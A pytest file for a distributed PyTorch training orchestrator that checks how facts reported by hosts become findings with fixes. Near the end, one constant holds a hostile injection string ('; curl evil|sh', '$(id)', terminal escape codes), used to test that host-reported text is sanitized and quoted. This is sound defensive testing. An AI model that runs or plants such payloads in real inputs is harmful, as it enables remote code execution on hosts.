"""Facts of all hosts become findings."""

from __future__ import annotations

import ast
import re
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from golden_files import assert_message
from host_facts import GPU, PYTHON, decoded, disk, facts, with_gpus

from orchestrator.answers.decode import decode
from orchestrator.answers.hello import Hello
from orchestrator.checks.findings import Findings, outliers_of
from orchestrator.checks.hosts import check_hosts, path_arguments, report_failures
from orchestrator.errors import OrchError
from orchestrator.hosts.fleet import fold_failures
from orchestrator.hosts.session import Refused
from orchestrator.inventory import model
from orchestrator.output.finding import Finding
from orchestrator.plan import plan
from orchestrator.runs import probe
from orchestrator.ssh.pipe import ConnectFailure, GroupMessage


def found(
    text: str | model.Inventory,
    changed: dict[str, dict[str, Any]] | None = None,
    hellos: dict[str, dict[str, Any]] | None = None,
    clocks: dict[str, tuple[float, float]] | None = None,
    arguments: tuple[str, ...] = (),
) -> list[Finding]:
    """What is found where every host is fine but for what is given."""
    read = model.parse(text, "inventory.yaml") if isinstance(text, str) else text
    made = plan.make(read, run_id="R", name="R", command=("-u", "train.py", *arguments), code=None, env={}, debug=False)
    names = [host.name for host in read.machines]
    fine = facts()
    identities = [
        {"codes": [], "boot_id": "b", "machine_id": "m", "state_inode": [1, number], "host": name}
        for number, name in enumerate(names)
    ]
    return list(
        check_hosts(
            made,
            {name: decoded({**fine, **(changed or {}).get(name, {})}) for name in names},
            {
                name: decode(Hello, {**one, **(hellos or {}).get(name, {})}, "hello")
                for name, one in zip(names, identities, strict=True)
            },
            {**dict.fromkeys(names, (-0.01, 0.01)), **(clocks or {})},
        )
    )


def brief(findings: list[Finding]) -> list[tuple[str, str, tuple[str, ...]]]:
    return [(one.severity, one.code, one.hosts) for one in findings]


def test_good_hosts_have_no_findings() -> None:
    assert found("hosts: [a, b]") == []


def test_a_port_that_a_run_has_is_freed_by_ending_that_run_and_not_one_of_its_processes() -> None:
    text, command = "{hosts: [a, b], run: {rdzv: {port: 29500}}}", "python -m torch.distributed.run --rdzv-id="
    for holder, kills in ((command + "20260101-000000-abcd-1", "ddp-orch kill 20260101-000000-abcd"), (command, "7")):
        (finding,) = found(text, {"a": {"listeners": {"29500": {"pid": 7, "command": holder}}}})
        assert finding.code == "port-in-use" and kills in finding.fix


def test_equal_messages_of_several_hosts_are_one_finding() -> None:
    broken = {"python": {"error": "python3 not found", "code": "remote-env-differs"}}
    (finding,) = found("hosts: [a, b, c]", {"a": broken, "c": broken})
    assert brief([finding]) == [("error", "remote-env-differs", ("a", "c"))]
    assert "python3 not found" in finding.message and "setup" in finding.fix


def test_a_python_without_torch_is_an_error() -> None:
    (finding,) = found("hosts: [a]", {"a": {"python": {**PYTHON, "torch": None}}})
    assert brief([finding]) == [("error", "missing-module-on-host", ("a",))]
    assert "/usr/bin/python3" in finding.message


CONTAINED = "hosts: [a, b, c]\nrun: {container: 'pytorch:2'}"


def container(*image: str, **changed: object) -> dict[str, Any]:
    return {
        "container": {"engine": "podman", "image": list(image), "gpus": False, "code": None, "error": None, **changed}
    }


def test_images_are_equal_if_their_ids_or_digests_are() -> None:
    with_digest, loaded, other = (
        container("id", "x@sha256:1"),
        container("id"),
        container("sha256:abcdef", "x@sha256:2"),
    )
    assert found(CONTAINED, {"a": with_digest, "b": loaded, "c": container("id2", "x@sha256:1")}) == []
    (finding,) = found(CONTAINED, {"a": with_digest, "b": other, "c": loaded})
    assert brief([finding]) == [("warning", "container-image-differs", ("b",))]
    assert "abcdef" in finding.message and "podman save" in finding.fix


def test_a_container_needs_an_engine_with_gpus_and_files_that_stay() -> None:
    problem = {"error": "podman not found", "code": "container-engine-missing"}
    missing = {"python": problem, **container(engine=None, **problem)}
    without_gpus = {"gpus": [GPU], **container("id")}
    findings = found(CONTAINED, {"a": missing, "b": without_gpus, "c": container("id", needs_linger=True)})
    assert ("error", "container-engine-missing", ("a",)) in brief(findings)
    assert ("error", "no-gpu-visible", ("b",)) in brief(findings)
    assert ("warning", "container-needs-linger", ("c",)) in brief(findings)


def test_a_file_system_that_does_not_answer_is_an_error() -> None:
    hung = {"hung": ["/data", "/home/ann"]}
    assert brief(found("hosts: [a, b]", {"b": hung})) == [("error", "filesystem-hung", ("b",))] * 2


def test_a_workdir_must_be_a_folder() -> None:
    text = "hosts: [{name: a, workdir: /shared}]"
    assert brief(found(text, {"a": {"workdir": False}})) == [("error", "remote-workdir-missing", ("a",))]
    assert found(text, {"a": {"workdir": True}}) == []


@pytest.mark.parametrize(
    ("notify", "asked"),
    [
        ("", None),
        ("notify: {bell: true}", None),
        (
            "notify: {webhook: 'https://hooks.example.org/secret'}",
            {"webhook": {"scheme": "https", "host": "hooks.example.org", "port": 443}, "mail": None, "program": None},
        ),
        ("notify: {command: 'A=b ~/bin/tell --x | cat'}", {"webhook": None, "mail": None, "program": "~/bin/tell"}),
        (
            "notify: {mail: 'smtp://ann:secret@mail.example.org/ann@example.org'}",
            {"webhook": None, "mail": {"host": "mail.example.org", "port": 587}, "program": None},
        ),
        (
            "notify: {mail: 'mailto:ann@example.org'}",
            {"webhook": None, "mail": {"host": "", "port": 0}, "program": None},
        ),
        ("notify: {command: '(cd /x; ./y)'}", None),
        ('notify: {command: "it\'s"}', None),
    ],
)
def test_the_head_is_asked_whether_it_could_notify(notify: str, asked: object) -> None:
    read = model.parse(f"hosts: [a, b]\n{notify}", "inventory.yaml")
    made = plan.make(read, run_id="R", name="R", command=("-u", "x.py"), code=None, env={}, debug=False)
    assert [probe.question(made, node, None)["notify"] for node in made.nodes] == [asked, None]


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_the_proxy_of_a_webhook_is_that_of_its_scheme(scheme: str) -> None:
    inventory = f"hosts: [a, b]\nnotify: {{webhook: '{scheme}://hooks.example.org/secret'}}"
    (finding,) = found(inventory, {"a": {"notify": {"webhook": "no connection to h:443: No route to host"}}})
    assert f" {scheme}_proxy " in finding.fix


def test_a_notification_that_would_fail_is_a_warning() -> None:
    (finding,) = found("hosts: [a, b]", {"a": {"notify": {"webhook": "no connection to h:443: No route to host"}}})
    assert brief([finding]) == [("warning", "notify-failed", ("a",))]
    assert "notify.webhook" in finding.message and "no connection to h:443" in finding.message
    assert "ddp-orch notify INVENTORY --test" in finding.fix


def test_a_crontab_that_cannot_be_used_prevents_the_start() -> None:
    text = "hosts: [a]\nrun: {autostart: cron, max_restarts: 1}"
    assert not found(text, {"a": {"cron_runs": True}})
    (warning,) = found(text, {"a": {"cron_runs": False}})
    assert brief([warning]) == [("warning", "autostart-unusable", ("a",))] and "daemon" in warning.message
    (finding,) = found(text, {"a": {"autostart": "there is no crontab program"}})
    assert brief([finding]) == [("error", "autostart-unusable", ("a",))]
    assert finding.evidence[0].startswith("a: ")  # not a command to try


NO_LINGER = {"kills": False, "linger": False, "scope": False, "slurm_adopts": False}


@pytest.mark.parametrize(
    ("facts", "fix"),
    [
        ({"autostart": "systemd does not run there", "login": NO_LINGER}, "cron"),
        ({"login": NO_LINGER}, "loginctl enable-linger"),
        ({"login": {**NO_LINGER, "linger": True}}, None),
    ],
)
def test_systemd_must_start_units_without_a_login(facts: dict[str, Any], fix: str | None) -> None:
    findings = found("hosts: [a]\nrun: {autostart: systemd, max_restarts: 1}", {"a": facts})
    assert brief(findings) == ([("error", "autostart-unusable", ("a",))] if fix else [])
    assert all(fix in finding.fix for finding in findings if fix)


def test_a_shared_output_folder_must_be_everywhere() -> None:
    text = "hosts: [a, b]\nrun: {output: /shared}"
    (finding,) = found(text, {"b": {"paths": {"/shared": "No such file or directory"}}})
    assert brief([finding]) == [("error", "shared-output-missing", ("b",))]
    assert found(text) == []


def test_a_path_with_the_name_of_a_host_is_looked_for_nowhere() -> None:
    read = model.parse("hosts: [a, b]", "inventory.yaml")
    command = ("-u", "train.py", "--data", "/data/{host}", "--root=/data")
    made = plan.make(read, run_id="R", name="R", command=command, code=None, env={}, debug=False)
    assert path_arguments(made) == {"/data": "--root"}


def test_a_state_folder_that_is_passed_over_is_a_warning() -> None:
    hello: dict[str, Any] = {
        "state": "/var/tmp/ddp-orch-7",
        "passed_over": ["/home/ann/.local/state/ddp-orch belongs to uid 0"],
    }
    (finding,) = found("hosts: [a, b]", hellos={"a": hello})
    assert brief([finding]) == [("warning", "state-folder-unusable", ("a",))]
    assert hello["passed_over"][0] in finding.message and "/var/tmp/ddp-orch-7" in finding.message


def test_gpus_that_are_wanted_must_be_there() -> None:
    text = "hosts: [{name: a, gpus: [0, 3]}]"
    (finding,) = found(text, {"a": with_gpus(2)})
    assert brief([finding]) == [("error", "no-gpu-visible", ("a",))]
    assert "`gpus` lists 3" in finding.message and "has 2" in finding.message
    assert found("hosts: [{name: a, gpus: none}]") == []


def test_a_host_that_ended_more_runs_than_the_others_is_a_warning_with_the_run_to_look_at() -> None:
    ledger = [
        {
            "at": 1767225600.0 + number,
            "run_id": f"20260101-00000{number}-abcd",
            "name": "n",
            "state": "lost",
            "attempts": 1,
            "node": 0,
            "failures": [{"host": "b", "attempt": 1, "code": "host-lost", "what": "host lost", "at": 1767225600.0}],
        }
        for number in range(3)
    ]
    (finding,) = found("hosts: [a, b]", {"a": {"ledger": ledger}})
    assert brief([finding]) == [("warning", "host-unreliable", ("b",))]
    assert "3 of the last 3 runs" in finding.message and "spot" in finding.fix
    assert "ddp-orch diagnose 20260101-000002-abcd" in finding.fix
    assert found("hosts: [a, b]", {"a": {"ledger": ledger[:1]}}) == []


def test_two_names_for_one_machine_are_an_error_but_not_two_state_folders_on_it() -> None:
    one = {"state_inode": [1, 1]}
    (finding,) = found("hosts: [a, b]", hellos={"a": one, "b": one})
    assert brief([finding]) == [("error", "duplicate-host", ("b",))]
    assert_message("two-names-of-one-machine", finding.message)


def test_another_release_of_torch_is_an_error_and_another_patch_a_warning() -> None:
    findings = found("hosts: [a, b, c]", {"a": {"python": {**PYTHON, "torch": "2.5.0"}}})
    assert brief(findings) == [("error", "torch-version-mismatch", ("a",))]
    assert re.search(r"\b2 hosts .*torch 2\.4\.0\b.*\ba .*2\.5\.0", findings[0].message)
    findings = found("hosts: [a, b, c]", {"a": {"python": {**PYTHON, "torch": "2.4.1"}}})
    assert brief(findings) == [("warning", "torch-version-mismatch", ("a",))]


@pytest.mark.parametrize(
    ("usual", "other", "arguments"),
    [
        ("2.13.0", "2.9.0", "torch==2.13.0"),
        ("2.13.0+cpu", "2.9.0", "torch==2.13.0+cpu --index-url https://download.pytorch.org/whl/cpu"),
        (
            "2.9.0+cu126",
            "2.9.0",
            "--force-reinstall torch==2.9.0+cu126 --index-url https://download.pytorch.org/whl/cu126",
        ),
    ],
)
def test_the_same_build_of_torch_is_installed_with_the_python_of_the_host(
    usual: str, other: str, arguments: str
) -> None:
    pythons = {host: {"python": {**PYTHON, "torch": usual}} for host in "ac"}
    own = {"python": {**PYTHON, "torch": other, "executable": "/v/bin/python"}}
    (finding,) = found("hosts: [a, b, c]", {**pythons, "b": own})
    assert finding.hosts == ("b",) and finding.fix.endswith(f": /v/bin/python -m pip install {arguments}")
    assert finding.evidence[0].startswith("try: ssh b '/v/bin/python -c ")


def test_a_build_of_torch_that_has_no_index_is_not_installed_with_pip() -> None:
    nvidia = {"python": {**PYTHON, "torch": "2.9.0a0+5228986c39.nv25.06"}}
    (finding,) = found("hosts: [a, b, c]", {"a": nvidia, "c": nvidia})
    assert "same image" in finding.fix and "pip" not in finding.fix.lower().replace("pypi", "")


def test_errors_come_first() -> None:
    findings = found("hosts: [a, b]", {"a": {"orphans": [ORPHAN]}, "b": {"python": {**PYTHON, "torch": None}}})
    assert [one.severity for one in findings] == ["error", "warning"]


ORPHAN = {"pid": 7, "run_id": "r", "command": "python train.py"}


# --- the disagreement of hosts


def test_the_majority_is_right() -> None:
    values = {"a": "1", "b": "2", "c": "1", "d": "2", "e": "1"}
    ((hosts, message),) = outliers_of("x", values, "b")
    assert hosts == ["b", "d"] and re.fullmatch(r"3 hosts .*x 1\b.*\bb,d .*\b2", message)


def test_the_head_is_right_where_there_is_no_majority() -> None:
    ((hosts, message),) = outliers_of("torch", {"a": "1", "b": "2"}, "b")
    assert hosts == ["a"] and re.fullmatch(r"b .*torch 2\b.*\ba .*\b1", message)


def test_hosts_that_agree_have_no_outliers() -> None:
    assert outliers_of("x", {"a": "1", "b": "1"}, "a") == []


def test_evidence_is_kept_once_for_all_hosts_that_gave_it() -> None:
    findings = Findings()
    findings.add("error", "c", "a", "m", "f", "ls: no")
    findings.add("error", "c", "b", "m", "f", "ls: no")
    findings.add("error", "c", "d", "m", "f", "ls: never")
    (one,) = findings.all()
    assert (one.hosts, one.evidence) == (("a", "b", "d"), ("a: ls: no", "d: ls: never"))


def test_a_command_without_what_it_said_is_not_evidence_but_to_be_tried() -> None:
    findings = Findings()
    findings.add("error", "c", "a", "m", "f", 'python -c "import torch"')
    (one,) = findings.all()
    (evidence,) = one.evidence
    assert evidence.startswith("try: ")
    assert shlex.split(evidence)[-3:] == ["ssh", "a", 'python -c "import torch"']


# --- hosts that were not reached


def test_a_host_without_the_python_of_the_inventory_gets_a_finding_with_a_fix() -> None:
    failure = Refused("remote-env-differs", "a: cannot run /opt/python", "set `python`")
    assert str(failure) == "a: cannot run /opt/python; set `python`"
    (finding,) = report_failures({"a": failure})
    assert (finding.message, finding.fix) == ("cannot run /opt/python", "set `python`")


def test_hosts_that_cannot_be_reached_are_findings_with_the_label_of_their_failure() -> None:
    failures: dict[str, OrchError] = {
        "a": ConnectFailure("a", "login", "no key was accepted", "ssh-auth-denied", "ssh-copy-id a"),
        "b": ConnectFailure("b", "login", "no key was accepted", "ssh-auth-denied", "ssh-copy-id a"),
    }
    (finding,) = report_failures(failures)
    assert brief([finding]) == [("error", "ssh-auth-denied", ("a", "b"))]
    assert finding.fix == "ssh-copy-id a"


def test_hosts_that_failed_alike_are_named_in_the_commands_of_the_fix() -> None:
    failures = {
        name: ConnectFailure(
            name, "login", f"{name}: no", "x", "", GroupMessage("no", "try `FIRST`; all: `HOSTS`", f"at-{name}")
        )
        for name in ("a", "b")
    }
    (finding,) = report_failures(failures)
    fix = "try `at-a`; all: `at-a at-b`"
    assert (finding.message, finding.fix) == ("login: no", fix)
    assert finding.evidence == ("try: ssh a", "try: ssh b")
    (line,) = fold_failures(failures)
    assert line.startswith(f"a,b: login: no; {fix} ")


def test_the_fix_of_a_jump_host_that_failed_names_it_for_all_hosts_behind_it() -> None:
    jump = ConnectFailure("jump", "login", "no", "x", "try `ssh jump`", GroupMessage("no", "try `FIRST`", "ssh jump"))
    (finding,) = report_failures({name: jump.of_jump_host(name) for name in ("a", "b")})
    assert (finding.message, finding.fix) == ("jump host jump: login: no", "try `ssh jump`")


# --- paths among the arguments


def test_a_missing_data_folder_and_a_full_disk_have_commands_for_their_host() -> None:
    missing = {name: {"paths": {"/data/my set": "No such file or directory"}} for name in "ab"}
    (finding,) = found("hosts: [a, b]", missing, arguments=("--data", "/data/my set"))
    assert_message("fix-of-a-missing-data-folder", finding.fix)
    (full,) = found("hosts: [a]", {"a": {"disks": {"state": {**disk("/state"), "free": 10 << 20}}}})
    assert_message("fix-of-a-full-disk", full.fix)


# --- clocks


def test_the_clock_that_differs_is_named_also_of_two() -> None:
    (finding,) = found("hosts: [a, b]", clocks={"a": (-30.1, -30.0)})
    assert brief([finding]) == [("warning", "clock-skew", ("a",))]
    assert "30 s behind" in finding.message


def test_the_controllers_own_wrong_clock_is_no_finding() -> None:
    assert found("hosts: [a, b, c]", clocks=dict.fromkeys("abc", (500.0, 500.1))) == []


def test_a_slow_answer_makes_no_skew() -> None:
    assert found("hosts: [a, b]", clocks={"a": (-9.0, 0.0)}) == []


# --- disks


def test_a_full_disk_that_holds_everything_is_said_once() -> None:
    full = {name: {**disk(f"/{name}"), "free": 10 << 20} for name in ("state", "home")}
    findings = found("hosts: [a]", {"a": {"disks": full}})
    assert brief(findings) == [("error", "disk-full", ("a",))]


# --- GPUs


def test_gpus_beyond_those_of_the_job_may_be_in_use_by_others() -> None:
    inventory = replace(model.parse("hosts: [a, {name: b, gpus: [1]}]", "i"), job_gpus=1)
    assert brief(found(inventory, {"a": with_gpus(2), "b": with_gpus(2)})) == [
        ("warning", "gpus-of-other-jobs", ("a",)),
    ]
    assert not found(replace(inventory, job_gpus=2), {"a": with_gpus(2), "b": with_gpus(2)})


def test_a_login_in_a_job_is_expected_with_the_hosts_of_the_job() -> None:
    adopted = {"a": {"login": {**NO_LINGER, "slurm_adopts": True}}}
    inventory = model.parse("hosts: [a]", "i")
    assert brief(found(inventory, adopted)) == [("note", "login-in-slurm-job", ("a",))]
    assert not found(replace(inventory, source="@slurm"), adopted)
    without_limit = replace(inventory, source="@slurm", run=replace(inventory.run, walltime=None))
    assert len(found(without_limit, adopted)) == 1


def test_gpus_that_the_run_does_not_use_may_be_busy() -> None:
    busy = with_gpus(2, gpus=[GPU, {**GPU, "index": 1, "used_mib": 70000}])
    assert found("hosts: [{name: a, gpus: [0]}]", {"a": busy}) == []
    (finding,) = found("hosts: [{name: a, gpus: [1]}]", {"a": busy})
    assert brief([finding]) == [("error", "gpu-memory-held-by-others", ("a",))]


def test_a_host_of_cpus_has_no_gpu_findings() -> None:
    broken = facts(nvidia={"driver": None, "cuda": None, "error": "No devices were found", "xids": []})
    assert found("hosts: [{name: a, gpus: none}]", {"a": broken}) == []


def test_a_driver_that_is_not_loaded_is_a_warning_where_nobody_wants_a_gpu() -> None:
    said = "NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver."
    broken = {"nvidia": {"driver": None, "cuda": None, "error": said, "xids": []}}
    assert brief(found("hosts: [a, b]", {"a": broken, "b": broken})) == [("warning", "no-gpu-visible", ("a", "b"))]
    assert brief(found("hosts: [a, b]", {"a": with_gpus(), "b": {**with_gpus(), **broken, "gpus": []}}))[0] == (
        "error",
        "no-gpu-visible",
        ("b",),
    )


# --- RDMA, which no lab has

PORT = {
    "device": "mlx5_0",
    "port": "1",
    "state": "ACTIVE",
    "layer": "InfiniBand",
    "driver": "mlx5_core",
}


def test_rdma_on_some_hosts_only_is_found() -> None:
    findings = found("hosts: [a, b, c]", {"a": {"rdma": [PORT]}, "b": {"rdma": [PORT]}})
    assert brief(findings) == [("warning", "nccl-transport-mixed", ("c",))]
    assert re.search(r"\b2 hosts .*InfiniBand\b.*\bc .*none", findings[0].message)


def test_a_lock_file_of_a_build_stops_nobody_where_torch_locks_by_the_kernel() -> None:
    left = {"stale_locks": ["/home/ann/.cache/torch_extensions/py311_cpu/ext/lock"]}
    kinds = {kind: {**left, "python": {**PYTHON, "build_locks": kind}} for kind in ("kernel", "file", None)}
    assert found("hosts: [a]", {"a": kinds["kernel"]}) == []
    for kind in ("file", None):
        assert brief(found("hosts: [a]", {"a": kinds[kind]})) == [("warning", "jit-extension-lock", ("a",))]


@pytest.mark.parametrize(
    ("hard", "raised", "by_root"),
    [(None, "[ulimit -n 65536]", False), (4096, '[ulimit -n "$(ulimit -Hn)"]', True), (512, "", True)],
)
def test_a_limit_is_raised_up_to_the_hard_limit(hard: int | None, raised: str, by_root: bool) -> None:
    python = {**PYTHON, "limits": {"nofile": 512, "nofile_hard": hard, "nproc": None, "memlock": None}}
    (finding,) = found("hosts: [a]", {"a": {"python": python}})
    assert raised in finding.fix and ("setup:" in finding.fix) == bool(raised)
    assert ("limits.conf" in finding.fix) == by_root


def test_rdma_needs_memory_that_may_be_locked() -> None:
    python = {**PYTHON, "limits": {"nofile": 65536, "nproc": None, "memlock": 65536}}
    assert brief(found("hosts: [a]", {"a": {"rdma": [PORT], "python": python}})) == [
        ("error", "nccl-ib-memlock", ("a",))
    ]
    assert found("hosts: [a]", {"a": {"python": python}}) == []


def test_a_port_of_rdma_that_is_down_beside_one_that_is_up_is_a_note() -> None:
    down = {**PORT, "device": "mlx5_1", "state": "DOWN"}
    both = {"rdma": [PORT, down]}
    assert brief(found("hosts: [a, b]", {"a": both, "b": {"rdma": [PORT]}})) == [("note", "nccl-ib-link-fault", ("a",))]


def test_efa_that_nccl_has_no_plugin_for_is_a_warning() -> None:
    efa = {**with_gpus(), "rdma": [{**PORT, "device": "efa_0", "driver": "efa"}]}
    both = {"a": efa, "b": efa}
    assert brief(found("hosts: [a, b]", both)) == [("warning", "nccl-net-plugin-missing", ("a", "b"))]
    assert found("{hosts: [a, b], defaults: {env: {NCCL_NET_PLUGIN: none}}}", both) == []
    plugin = {"net_plugin": "/opt/lib/libnccl-net-ofi.so", "libfabric": "/opt/lib/libfabric.so.1"}
    loaded = {name: {**fact, "python": {**fact["python"], **plugin}} for name, fact in both.items()}
    assert found("hosts: [a, b]", loaded) == []


def test_gpus_joined_in_another_way_than_elsewhere_are_found() -> None:
    def pair(path: str) -> dict[str, Any]:
        two = with_gpus()
        paths = {"GPU0": path, "GPU1": path, "NIC0": "PXB"}
        return {**two, "gpus": [{**gpu, "paths": paths} for gpu in two["gpus"]]}

    slow = {"a": pair("NV18"), "b": pair("NV18"), "c": pair("SYS")}
    (finding,) = found("hosts: [a, b, c]", slow)
    assert brief([finding]) == [("warning", "gpu-topology-mismatch", ("c",))]
    assert re.search(r"\b2 hosts .* 1 x NV18\b.*\bc .* 1 x PCIe", finding.message)
    assert found("hosts: [a, b, c]", {**slow, "c": pair("NV18")}) == []
    assert found("hosts: [a, b]", {"a": pair("PHB"), "b": pair("SYS")}) == []


# --- the manual

ROOT = Path(__file__).parents[2]


def test_every_code_of_a_rule_and_of_a_case_is_in_the_manual() -> None:
    manual = set(re.findall(r"`([a-z0-9-]+)`", (ROOT / "docs" / "findings.md").read_text()))
    codes = set()
    for path in (ROOT / "orchestrator" / "checks").glob("*.py"):
        for call in ast.walk(ast.parse(path.read_text())):
            if isinstance(call, ast.Call) and getattr(call.func, "attr", "") in ("add", "differ"):
                codes |= {one.value for one in call.args[1:2] if isinstance(one, ast.Constant)}
    assert len(codes) > 40
    assert codes <= manual


def test_every_code_of_the_manual_is_one_of_the_program() -> None:
    table = (ROOT / "docs" / "findings.md").read_text().partition("## Codes of `check`")[2].partition("## ")[0]
    listed = {code for cell in re.findall(r"(?m)^\| (`.*?) \|", table) for code in re.findall(r"`([a-z0-9-]+)`", cell)}
    sources = "".join(path.read_text() for path in (ROOT / "orchestrator").rglob("*.py"))
    assert len(listed) > 80
    assert {code for code in listed if f'"{code}"' not in sources} == set()


HOSTILE = "/x; curl evil|sh #\x1b]52;c;Zm9v\x07\x1b[2J\u202e`id`$(id)\nerror: EVIL"
OLD = {**PYTHON, "torch": f"1.0+{HOSTILE}", "executable": HOSTILE, "path": HOSTILE}


@pytest.mark.parametrize(
    "changed",
    [
        {"disks": {"state": {**disk(HOSTILE), "free": 7}}},
        {"disks": {"tmp": {**disk(HOSTILE), "free_files": 7}}},
        {"stale_locks": [HOSTILE]},
        {"orphans": [{"pid": 7, "run_id": HOSTILE, "command": HOSTILE}]},
        {"python": {**PYTHON, "torch": None, "executable": HOSTILE}},
        {"python": OLD},
        {"python": {**PYTHON, "torch": f"9.{HOSTILE}"}},
        {"python": {**PYTHON, "packages": {f"nvidia_nccl_{HOSTILE}": HOSTILE, "nvidia_nccl_cu12": "2"}}},
        {"python": {**OLD, "packages": {"nvidia_nccl_cu11": HOSTILE, "nvidia_nccl_cu12": "2"}}},
        {"python": {"error": HOSTILE, "code": "remote-env-differs"}},
        {"python": {**PYTHON, "script": {"path": "/a", "error": HOSTILE, "absent": HOSTILE, "missing": [HOSTILE]}}},
        {"hostname": HOSTILE, "names": {HOSTILE: {"found": [], "error": HOSTILE, "seconds": 0.1}}},
        {"machine": HOSTILE},
    ],
    ids=lambda changed: "-".join(changed),
)
def test_what_a_host_says_is_one_line_and_in_no_command_but_quoted(changed: dict[str, Any]) -> None:
    findings = found("hosts: [a, b]", {"b": changed})
    assert findings
    for finding in findings:
        for text in (finding.message, *finding.evidence, *finding.fix.splitlines()):
            assert "\x1b" not in text and "\u202e" not in text and not text.startswith("error")
        assert "\n" not in "".join((finding.message, *finding.evidence))
        for line in finding.fix.splitlines():
            for word in shlex.split(line.replace("`ddp-orch setup INVENTORY`", "")):
                assert "curl evil" not in word or "; curl evil|sh #" in word, line


WITNESSED = "hosts: [a, b]\nrun: {max_restarts: 3, witness: w}"


def test_a_witness_needs_neither_torch_nor_gpus_nor_memory_for_ranks() -> None:
    bare = {
        "python": {"error": "python3 not found", "code": "remote-env-differs"},
        "disks": {**facts()["disks"], "shm": {**disk("/dev/shm"), "free": 1}},
    }
    assert found(WITNESSED, {"a": with_gpus(), "b": with_gpus(), "w": bare}) == []


def test_a_witness_on_the_machine_of_a_host_is_an_error() -> None:
    (finding,) = found(WITNESSED, hellos={"w": {"state_inode": [1, 0]}})
    assert brief([finding]) == [("error", "duplicate-host", ("w",))]


def test_missing_modules_are_one_finding_with_a_command_that_installs_their_packages() -> None:
    def lacks(*missing: str) -> dict[str, Any]:
        return {
            "python": {**PYTHON, "script": {"path": "t.py", "absent": None, "error": None, "missing": list(missing)}}
        }

    (finding,) = found("hosts: [a, b]", {"a": lacks("sklearn", "tqdm"), "b": lacks("sklearn", "tqdm")})
    assert brief([finding]) == [("error", "script-import-error", ("a", "b"))]
    assert "/usr/bin/python3 -m pip install scikit-learn" in finding.fix and "tqdm" in finding.fix
    findings = found("hosts: [a, b]", {"a": lacks("torch", "yaml"), "b": lacks()})
    assert brief(findings) == [("error", "missing-module-on-host", ("a",))] and "pyyaml" in findings[0].fix
